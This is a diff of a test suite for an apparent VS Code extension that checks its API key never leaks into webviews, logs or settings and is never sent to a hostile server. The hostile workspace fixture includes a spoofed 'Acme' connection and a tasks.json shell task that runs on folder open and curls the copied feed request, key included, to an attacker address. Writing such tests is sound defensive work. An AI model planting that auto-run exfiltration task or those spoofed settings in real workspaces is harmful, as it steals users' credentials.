@@ -40,12 +40,14 @@ describe("API key", () => {
         await workbench.tree("Collections").getByRole("treeitem").filter({ hasText: words }).waitFor();
       }
       // The report replaces the panel, and its webview is destroyed.
-      const panel = await readPageContents(page);
+      const panelContents = await readPageContents(page);
       assert.ok(
-        [...panel].some(([name, text]) => name.includes("/webview/") && text.includes("Bad request by")),
-        "the panel's page was looked at",
+        [...panelContents].some(
+          ([name, text]) => name.includes("/webview/") && text.includes("Bad request by"),
+        ),
+        "the page of the panel was searched",
       );
-      assert.deepEqual(findSecret(key, panel), []);
+      assert.deepEqual(findSecret(key, panelContents), []);
       await workbench.runCommand("Company Feed: Test Connection");
       await page.locator(".editor-instance .view-lines").filter({ hasText: "Failed:" }).waitFor();
       backend.intercept = undefined;
@@ -59,15 +61,15 @@ describe("API key", () => {
       await workbench.openQuickAccess();
       await quickInput.cancel();
 
-      const seen = new Map([
+      const contents = new Map([
         ...(await readPageContents(page)),
         ...(await readFilesBelow(workbench.server.home)),
       ]);
-      const log = [...seen].find(([name]) => name.endsWith("Company Feed.log"));
-      assert.ok(log?.[1].includes("401"), "the log was looked at");
-      assert.match(seen.get("messages") ?? "", /"type":"snapshot".*Bad request by/s);
-      assert.ok([...seen].some(([name]) => name.endsWith("settings.json")));
-      assert.deepEqual(findSecret(key, seen), []);
+      const log = [...contents].find(([name]) => name.endsWith("Company Feed.log"));
+      assert.ok(log?.[1].includes("401"), "the log was searched");
+      assert.match(contents.get("messages") ?? "", /"type":"snapshot".*Bad request by/s);
+      assert.ok([...contents].some(([name]) => name.endsWith("settings.json")));
+      assert.deepEqual(findSecret(key, contents), []);
     } finally {
       backend.stop();
       await workbench.close();
@@ -77,8 +79,8 @@ describe("API key", () => {
   for (const trusted of [true, false]) {
     it(`is sent only to the user's service, whatever the workspace contains (${trusted ? "trusted" : "untrusted"})`, async () => {
       const backend = await SampleBackend.start(key);
-      const thief = await SampleBackend.start("anything");
-      const folder = await hostileFolder(thief.baseUrl);
+      const attacker = await SampleBackend.start("anything");
+      const folder = await hostileFolder(attacker.baseUrl);
       const workbench = await Workbench.open({
         folder,
         workspaceTrust: !trusted,
@@ -97,7 +99,7 @@ describe("API key", () => {
         await workbench.quickInput.shown("Switch connection");
         const offered = await workbench.quickInput.items();
         assert.ok(offered.some((label) => label.includes("Acme")));
-        assert.ok(!offered.some((label) => label.includes("Thief")), offered.join());
+        assert.ok(!offered.some((label) => label.includes("Attacker")), offered.join());
         await workbench.quickInput.cancel();
         await workbench.runCommand("Company Feed: Load Older Events");
         await workbench.runCommand("Company Feed: Refresh Collections");
@@ -106,12 +108,12 @@ describe("API key", () => {
           .locator(".editor-instance .view-lines")
           .filter({ hasText: "All checks passed." })
           .waitFor();
-        assert.deepEqual(thief.requests, []);
+        assert.deepEqual(attacker.requests, []);
         assert.ok(backend.requests.every(({ headers }) => headers["authorization"] === `Bearer ${key}`));
         assert.ok(backend.requests.some(({ target }) => target.includes("/datasets/companydata/feed")));
       } finally {
         backend.stop();
-        thief.stop();
+        attacker.stop();
         await workbench.close();
       }
     });
@@ -122,9 +124,9 @@ describe("API key", () => {
 async function hostileFolder(address: string): Promise<string> {
   const folder = await mkdtemp(path.join(os.tmpdir(), "hostile-"));
   await mkdir(path.join(folder, ".vscode"));
-  const thief = { name: "Thief", baseUrl: address };
+  const attacker = { name: "Attacker", baseUrl: address };
   const settings = {
-    "companyFeed.connections": [{ name: "Acme", baseUrl: address }, thief],
+    "companyFeed.connections": [{ name: "Acme", baseUrl: address }, attacker],
     "companyFeed.feed.typesFormat": "repeat",
     "companyFeed.baseUrl": address,
     "companyFeed.dataset": "stolen",
@@ -136,7 +138,7 @@ async function hostileFolder(address: string): Promise<string> {
     version: "2.0.0",
     tasks: [
       {
-        label: "steal",
+        label: "send the key",
         type: "shell",
         command: `curl ${address}/$\{command:companyFeed.copyFeedRequest}`,
         runOptions: { runOn: "folderOpen" },
